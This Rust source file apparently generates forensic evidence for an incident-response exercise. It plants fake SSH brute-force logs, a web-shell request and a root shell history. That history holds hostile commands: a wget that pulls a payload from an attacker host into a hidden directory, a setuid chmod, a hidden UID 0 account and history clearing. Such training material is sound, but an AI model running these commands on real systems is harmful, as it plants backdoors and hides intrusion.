//! What the logs still say, and what the intruder typed.

use super::plant::Plant;
use crate::error::Result;
use std::fmt::Write as _;

pub(super) fn plant(plant: &Plant<'_>) -> Result<()> {
    let mut auth = String::new();
    // T1110.001: guessing; then one login that worked, from another address (removed later).
    for n in 0..180u32 {
        let (minute, second) = (30 + n / 18, n % 18 * 3);
        // Writing to a String cannot fail.
        let _ = writeln!(
            auth,
            "Mar 14 02:{minute:02}:{second:02} web1 sshd[{}]: Failed password for root from 203.0.113.77 port {} ssh2",
            900 + n,
            40000 + n
        );
    }
    auth.push_str(
        "Mar 14 02:41:07 web1 sshd[1107]: Accepted password for root from 198.51.100.23 port 51812 ssh2\n\
         Mar 14 02:46:17 web1 useradd[1201]: new user: name=sysupd, UID=0, GID=0, from=198.51.100.23\n\
         Mar 14 09:00:01 web1 sshd[2001]: Accepted publickey for deploy from 192.0.2.10 port 50022 ssh2\n\
         Mar 15 02:58:40 web1 sshd[3001]: Accepted publickey for root from 198.51.100.23 port 52110 ssh2\n",
    );
    plant.file("/var/log/auth.log", 0o640, 86_000, auth.as_bytes())?;
    plant.file("/var/log/auth.log.1", 0o640, 0, b"Mar 13 23:59:59 web1 systemd: old day\n")?;
    plant.file(
        "/var/log/syslog",
        0o640,
        0,
        b"Mar 14 00:00:01 web1 systemd[1]: Started cron.service.\n",
    )?;
    plant.file(
        "/var/log/nginx/access.log",
        0o640,
        60,
        b"203.0.113.77 - - [14/Mar/2026:02:20:11 +0000] \"POST /uploads/thumb.php HTTP/1.1\" 200 31 \"-\" \"curl/7.88\"\n",
    )?;
    // T1059.004
    plant.file(
        "/root/.bash_history",
        0o600,
        88_000,
        b"id\nuname -a\nwget http://198.51.100.23/k -O '/var/tmp/... /k'\nchmod 4755 '/var/tmp/... /k2'\n\
          useradd -o -u 0 sysupd\nhistory -c\n",
    )?;
    plant.file("/etc/hostname", 0o644, 0, b"web1\n")
}
